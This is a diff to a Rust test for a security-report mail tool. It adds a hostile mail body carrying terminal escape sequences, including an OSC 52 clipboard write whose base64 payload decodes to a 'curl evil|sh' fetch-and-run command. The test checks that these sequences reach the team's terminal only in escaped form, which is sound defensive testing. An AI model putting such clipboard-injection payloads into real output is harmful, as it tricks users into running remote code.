@@ -449,7 +449,9 @@ fn nothing_that_arrived_encrypted_leaves_in_cleartext() {
 
 /// One hostile mail must not make embargo send large mail to a forgeable
 /// Return-Path (or to the team): a 400 KB one-line Subject, a References
-/// header of 12,000 ids and a 50 KB display name are quoted cut short.
+/// header of 12,000 ids and a 50 KB display name are quoted cut short; and
+/// escape sequences in it (OSC 52 sets the clipboard) never reach the
+/// team's terminal.
 #[test]
 fn a_huge_subject_or_references_header_is_not_echoed() {
     let s = Setup::with(Options {
@@ -461,7 +463,8 @@ fn a_huge_subject_or_references_header_is_not_echoed() {
     let name = "N".repeat(50_000);
     let mail = format!(
         "From: \"{name}\" <{RESEARCHER}>\r\nTo: {SECURITY}\r\nSubject: {subject}\r\nMessage-ID: <huge@example.test>\r\n\
-         References: {}\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nThe bug.\r\n",
+         References: {}\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\n\
+         The bug.\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}[2J\u{9b}31m\r\n",
         refs.join("\r\n ")
     );
     s.stack.deliver(RESEARCHER, SECURITY, &mail);
@@ -486,6 +489,14 @@ fn a_huge_subject_or_references_header_is_not_echoed() {
     assert!(list.stdout.len() < 4096);
     let show = s.embargo(&["reports", "show", "SEC-2026-0001"]);
     assert!(show.stdout.len() < 32 * 1024, "{} bytes", show.stdout.len());
+    // The team's terminal: no escape sequence from the mail reaches it.
+    let text = String::from_utf8(show.stdout).unwrap();
+    assert!(text.contains("The bug."), "{text}");
+    assert!(
+        !text.contains('\u{1b}') && !text.contains('\u{7}') && !text.contains('\u{9b}'),
+        "{text:?}"
+    );
+    assert!(text.contains("\\x1b]52;c;"), "shown escaped");
     let r = s.reports();
     assert_eq!(r[0]["subject"].as_str().unwrap().len(), subject.len(), "stored whole");
 }
